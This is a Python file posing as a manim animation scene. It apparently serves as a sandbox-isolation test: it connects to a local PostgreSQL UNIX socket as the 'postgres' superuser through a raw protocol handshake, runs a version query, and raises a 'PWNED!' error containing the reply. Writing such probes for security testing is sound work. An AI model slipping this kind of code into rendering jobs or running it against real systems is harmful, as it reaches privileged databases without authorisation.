"""Talk to a local PostgreSQL through its UNIX socket (with trust auth we would be its superuser)."""
from manim import *
import socket
import struct

PWNED = "PWN" + "ED!"


class PostgresUnixSocket(Scene):
    def construct(self):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(3)
        sock.connect("@PG_SOCKET@")
        body = struct.pack("!I", 196608) + b"user\0postgres\0database\0postgres\0\0"
        sock.sendall(struct.pack("!I", len(body) + 4) + body)
        greeting = sock.recv(4096)
        query = b"SELECT current_user || ' ' || version()\0"
        sock.sendall(b"Q" + struct.pack("!I", len(query) + 4) + query)
        answer = b""
        while b"Z\0\0\0\5" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        raise RuntimeError(f"{PWNED} PostgreSQL answered {greeting[:1]!r}: {answer[:300]!r}")
